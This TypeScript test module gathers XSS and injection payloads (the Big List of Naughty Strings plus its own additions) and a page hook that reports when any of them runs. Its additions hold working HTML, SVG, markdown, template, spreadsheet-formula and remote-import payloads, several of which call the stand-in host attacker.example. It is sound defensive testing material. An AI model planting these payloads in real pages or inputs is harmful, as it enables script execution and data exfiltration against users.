import { createRequire } from "node:module";

/** Texts that have broken software: Max Woolf's Big List of Naughty Strings (npm `big-list-of-naughty-strings`, MIT). */
const LISTED: readonly string[] = createRequire(import.meta.url)("big-list-of-naughty-strings");

/** Where payloads of ours send somebody's words; nothing may ever be asked for there. */
export const ATTACKER = "attacker.example";

/** What the list has little of: requests to others, styles, links, and the marks of our own formats. */
const OWN: readonly string[] = [
  `<img src="https://${ATTACKER}/a.png">`,
  `<img src=//${ATTACKER}/b.png srcset="//${ATTACKER}/c.png 2x">`,
  `<link rel=stylesheet href=//${ATTACKER}/d.css>`,
  `<link rel=prefetch href=//${ATTACKER}/e>`,
  `<style>@import "//${ATTACKER}/f.css"; *{display:none!important}</style>`,
  `<div style="position:fixed;inset:0;background:url(//${ATTACKER}/g)">`,
  `<form action=//${ATTACKER}/h><button>Send</button></form>`,
  `<button formaction="javascript:pwned=1" autofocus>Copy</button>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="javascript:pwned=1"></object><embed src="//${ATTACKER}/i.swf">`,
  `<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s></svg>`,
  `<svg><use href="//${ATTACKER}/j.svg#x"/><image href="//${ATTACKER}/k.png"/></svg>`,
  `<svg><a href="javascript:pwned=1"><text y=20>Open</text></a></svg>`,
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></table></mtext></math>",
  "<details open ontoggle=pwned=1><summary>More</summary></details>",
  "<input autofocus onfocus=pwned=1><select autofocus onfocus=pwned=1></select>",
  `<base href="//${ATTACKER}/"><meta http-equiv=refresh content="0;url=//${ATTACKER}/l">`,
  `<template><script>pwned=1</script></template><slot onslotchange=pwned=1>`,
  "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
  "</textarea><img src=x onerror=pwned=1>",
  "</title></style></script><script>pwned=1</script>",
  "</script><!--<script>pwned=1",
  "]]><script>pwned=1</script>",
  "--><img src=x onerror=pwned=1>",
  `" onmouseover="pwned=1" autofocus onfocus="pwned=1`,
  "' onmouseover='pwned=1' autofocus onfocus='pwned=1",
  "` onmouseover=`pwned=1",
  "[a](javascript:pwned=1)",
  "[a](data:text/html,<script>pwned=1</script>)",
  `![a](https://${ATTACKER}/m.png)`,
  `[a]: javascript:pwned=1 "[a]"`,
  "<javascript:pwned=1>",
  "{pwned=1}",
  "{{constructor.constructor('pwned=1')()}}",
  `\${pwned=1}`,
  "{{customer_name}}<img src=x onerror=pwned=1>",
  "<Reply channel={pwned=1}>",
  "import('//attacker.example/n.js')",
  `export const a = fetch("https://${ATTACKER}/o");`,
  "__proto__",
  "constructor",
  '=HYPERLINK("https://attacker.example/p")',
  "\u2028\u2029</script><script>pwned=1</script>",
  "\u202E<img src=x onerror=pwned=1>",
];

/** `\x3C` of the list as the sign it stands for. */
function unpacked(text: string): string {
  return text.replace(/\\x([0-9a-f]{2})/gi, (_, hex) => String.fromCharCode(Number.parseInt(hex, 16)));
}

/** Every text to attack with, as it is listed and with its escapes read; those of the list that aim at a page are 402. */
export const PAYLOADS: readonly string[] = [
  ...new Set([...LISTED, ...LISTED.map(unpacked), ...OWN].filter((text) => text.trim() !== "")),
];

/** Those that are written to run in a page. */
export const SCRIPTED: readonly string[] = PAYLOADS.filter((text) =>
  /<|script|alert|pwned|\bon\w+\s*=|&#|\\x3c|\\u003c|expression|url\(/i.test(text),
);

/** In a page: tells `sprung` (a binding of the test's) of whatever runs. Hand it to `addInitScript`. */
export function armed(): void {
  const { sprung } = window as unknown as { sprung(said: string): void };
  const trap = (name: string) => (said: unknown) => sprung(`${name}(${String(said)})`);
  for (const name of ["alert", "confirm", "prompt", "print"]) Object.assign(window, { [name]: trap(name) });
  Object.defineProperty(window, "pwned", { set: trap("pwned"), configurable: true });
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
    sprung(`policy(${effectiveDirective} ${blockedURI} ${sample})`),
  );
}
